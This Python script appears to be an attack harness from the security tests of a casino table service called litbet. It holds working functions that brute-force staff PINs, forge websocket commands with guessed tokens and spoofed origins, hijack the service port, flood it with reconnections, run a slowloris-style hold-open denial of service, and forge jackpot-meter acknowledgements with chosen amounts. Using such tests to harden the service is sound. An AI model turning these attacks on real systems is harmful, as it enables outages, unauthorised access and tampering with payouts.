"""Attacks on the pages, each a function; run as some user of the machine: `attacker.py NAME ARGUMENT...`. The last line
says what it got. It needs aiohttp, and nothing of litbet."""

import argparse
import asyncio
import json
import re
import resource
import select
import socket
import sys
from typing import Any

import aiohttp

PATIENCE = 30
FIELD = r'name="litbet-token" content="(.+?)"'
CLOSED = (aiohttp.ClientConnectionError, asyncio.TimeoutError)


async def page(base: str, path: str, host: str = "") -> str:
    """The status of an address, with the token if its page has one."""
    headers = {"Host": host} if host else {}
    try:
        async with aiohttp.ClientSession() as session, session.get(base + path, headers=headers) as answer:
            found = re.search(FIELD, await answer.text())
            return f"{answer.status} token" if found else str(answer.status)
    except CLOSED:
        return "closed"


async def press(base: str, command: str, origin: str = "", who: Any = ()) -> str:
    """Asks the controller by the dealer's page, with the page's own token or a guessed one."""
    try:
        async with aiohttp.ClientSession() as session:
            found = re.search(FIELD, await (await session.get(f"{base}/table/bj-1")).text())
            headers = {"Origin": origin or base}
            async with session.ws_connect(f"{base}/live/table/bj-1", headers=headers) as line:
                await line.send_json({"token": found[1] if found else "guessed"})
                await line.send_json({"ask": command, "id": 1, "who": list(who)})
                async for message in line:
                    told = json.loads(message.data)
                    if told["topic"] == "table":
                        return "ok" if command == "table show" else "in"
                    if told["topic"] == "answer":
                        return "ok" if told["payload"]["ok"] else "answered"
        return "refused"
    except (*CLOSED, aiohttp.WSServerHandshakeError):
        return "refused"


async def pins(base: str, number: str) -> str:
    """Tries PINs for somebody of the floor."""
    tried = 0
    for digits in range(int(number)):
        who = [{"name": "floor", "pin": f"{digits:08}"}]
        tried += await press(base, "clock confirm", who=who) != "refused"
    return f"{tried} tried"


async def leave(base: str) -> str:
    """Asks and closes at once, so that the kernel no longer knows an owner; looks whether anything was sent."""
    address, port = base.removeprefix("http://").split(":")
    for _ in range(200):
        line = socket.create_connection((address, int(port)))
        line.sendall(b"GET /table/bj-1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        line.shutdown(socket.SHUT_WR)
        line.settimeout(PATIENCE)
        got = b""
        try:
            while data := line.recv(65536):
                got += data
        except OSError:
            pass
        line.close()
        if b"litbet-token" in got:
            return "the token"
    return "nothing"


async def bind(address: str, port: str) -> str:
    """Tries to serve a page where the pages were."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        with socket.socket(family) as line:
            if option is not None:
                line.setsockopt(socket.SOL_SOCKET, option, 1)
            try:
                line.bind((address, int(port)))
                line.listen()
            except OSError:
                continue
            return "bound"
    return "taken"


async def knock(base: str, number: str) -> str:
    """Connects again and again, so that the service is started again and again."""
    address, port = base.removeprefix("http://").split(":")
    for _ in range(int(number)):
        with socket.create_connection((address, int(port)), timeout=PATIENCE) as line:
            line.sendall(b"GET / HTTP/1.1\r\n\r\n")
        await asyncio.sleep(0.02)
    return "knocked"


async def hold(base: str, number: str) -> str:
    """Opens connections and asks nothing, or begins a head that never ends; goes on until its input ends."""
    address, port = base.removeprefix("http://").split(":")
    held: list[socket.socket] = []
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    def opened() -> None:
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex((address, int(port)))
        held.append(line)

    for _ in range(int(number)):
        opened()
        await asyncio.sleep(0)
    print("held", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for place, line in enumerate(held):
            try:
                line.send(b"GET / HTTP/1.1\r\n" if place % 2 else b"X-Slow: 1\r\n")
            except OSError:  # it was closed: another one
                line.close()
                held[place] = socket.socket()
                held[place].setblocking(False)
                held[place].connect_ex((address, int(port)))
        await asyncio.sleep(0.2)
    return "let go"


async def acknowledge(base: str, cents: str) -> str:
    """Says, as a sign's page does, that it shows a meter, but with an amount of its own."""
    try:
        async with (
            asyncio.timeout(PATIENCE),
            aiohttp.ClientSession() as session,
            session.ws_connect(f"{base}/live/sign/bj-1", headers={"Origin": base}) as line,
        ):
            async for message in line:
                told = json.loads(message.data)
                if told["topic"].endswith("/meter") and told["payload"]:
                    shown = {name: told["payload"][name] for name in ("jackpot", "epoch", "seq", "pub")}
                    await line.send_json({"ack": {**shown, "cents": int(cents)}})
                    return "said"
    except TimeoutError:
        pass
    return "no meter"


ATTACKS = (page, press, pins, leave, bind, knock, hold, acknowledge)


def main() -> None:
    asked = argparse.ArgumentParser()
    asked.add_argument("name", choices=[attack.__name__ for attack in ATTACKS])
    asked.add_argument("facts", nargs="*")
    asked.add_argument("--origin", default="")
    asked.add_argument("--host", default="")
    chosen = asked.parse_args()
    options = {name: value for name in ("origin", "host") if (value := getattr(chosen, name))}
    (attack,) = (each for each in ATTACKS if each.__name__ == chosen.name)
    print(asyncio.run(asyncio.wait_for(attack(*chosen.facts, **options), 4 * PATIENCE)))


if __name__ == "__main__":
    main()
